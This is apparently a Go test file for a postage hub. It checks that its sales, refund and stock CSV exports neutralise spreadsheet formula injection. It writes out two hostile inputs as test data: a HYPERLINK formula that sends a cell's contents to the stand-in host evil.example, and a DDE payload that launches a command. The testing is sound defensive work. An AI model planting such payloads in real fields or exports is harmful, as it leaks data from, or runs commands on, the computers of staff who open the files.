package hub_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/frank-postage/frank/hub/operators"
	"github.com/frank-postage/frank/hub/store"
	"github.com/frank-postage/frank/protocol"
)

// A stranger's login and a store's refund reason reach the exports ops
// open in a spreadsheet. A login shaped like a formula is refused at
// registration; one from before that rule, and a reason, come out of the
// exports inert, with a leading quote.
func TestExportsHoldNoFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()

	const evilLogin = `=HYPERLINK("http://evil.example/?"&A2,"Open")`
	st, _, page := e.browser().do("POST", "/portal/register", url.Values{"login": {evilLogin}, "password": {"correct horse battery"},
		"password2": {"correct horse battery"}, "zip": {"02134"}})
	if st == http.StatusSeeOther || !strings.Contains(page, "start with a letter or a digit") {
		t.Fatalf("a formula login was registered: %d %s", st, page)
	}
	for _, login := range []string{"+1 555 0100", "@mallory", "bob\u202eevil", "tab\tin"} {
		if _, err := e.h.Accounts().Create(ctx, login, "correct horse battery"); err == nil {
			t.Errorf("login %q was registered", login)
		}
	}

	// An account registered before the rule.
	sheet := e.webSheet()
	mallory := e.customer("mallory", "10.00")
	db, err := store.Open(ctx, e.dsn())
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.ExecContext(ctx, db.Rebind(`UPDATE accounts SET login = ? WHERE login = ?`), evilLogin, "mallory"); err != nil {
		t.Fatal(err)
	}
	if st, loc, page := mallory.buy(sheet, 1); st != http.StatusSeeOther {
		t.Fatalf("web buy: %d %s %s", st, loc, page)
	}

	k1 := e.kiosk("kiosk-1")
	if res := decode(t, k1.ask(purchase("csv-1", "kiosk-1", "1966-F8CF-01", nil))); res.Status != protocol.ResultOK {
		t.Fatalf("kiosk sale: %+v", res.Error)
	}
	sue := e.operator("sue", "staff", "store-a")
	form := url.Values{"label": {"1966-F8CF-01"}, "reason": {strings.Repeat("x", 201)}, "handed_in": {"yes"}}
	if st, _, page := sue.post("/console/stock", "/console/refunds", form); strings.Contains(page, "Refunded") {
		t.Fatalf("a 201-character reason was taken: %d", st)
	}
	const evilReason = `=cmd|' /C calc'!A0`
	form.Set("reason", evilReason)
	if st, _, page := sue.post("/console/stock", "/console/refunds", form); st != http.StatusOK || !strings.Contains(page, "Refunded") {
		t.Fatalf("counter refund: %d %s", st, page)
	}

	if _, err := e.h.Operators().Add(ctx, "olga", "operator password 1", "ops", nil); err != nil {
		t.Fatal(err)
	}
	tok, err := e.h.Operators().NewToken(ctx, "olga", "csv", operators.ReadOnly, operators.DefaultTokenTTL)
	if err != nil {
		t.Fatal(err)
	}
	day := time.Now().Local().Format(time.DateOnly)
	q := "?" + url.Values{"from": {day}, "to": {day}}.Encode()
	for _, c := range []struct{ path, col, want string }{
		{"/api/v1/ops/exports/sales.csv" + q, "customer", "'" + evilLogin},
		{"/api/v1/ops/exports/refunds.csv" + q, "reason", "'" + evilReason},
		{"/api/v1/ops/exports/stock.csv" + q, "account", "'" + evilLogin},
	} {
		st, _, body := e.browser().do("GET", c.path, nil, "Authorization", "Bearer "+tok)
		if st != http.StatusOK {
			t.Fatalf("%s: %d %s", c.path, st, body)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := -1
		for j, h := range rows[0] {
			if h == c.col {
				col = j
			}
		}
		found := false
		for _, r := range rows[1:] {
			v := r[col]
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				if _, err := time.Parse(time.RFC3339, v); err != nil {
					t.Errorf("%s: column %s holds a formula: %q", c.path, c.col, v)
				}
			}
			found = found || v == c.want
		}
		if !found {
			t.Errorf("%s: no %s %q in\n%s", c.path, c.col, c.want, body)
		}
	}
}
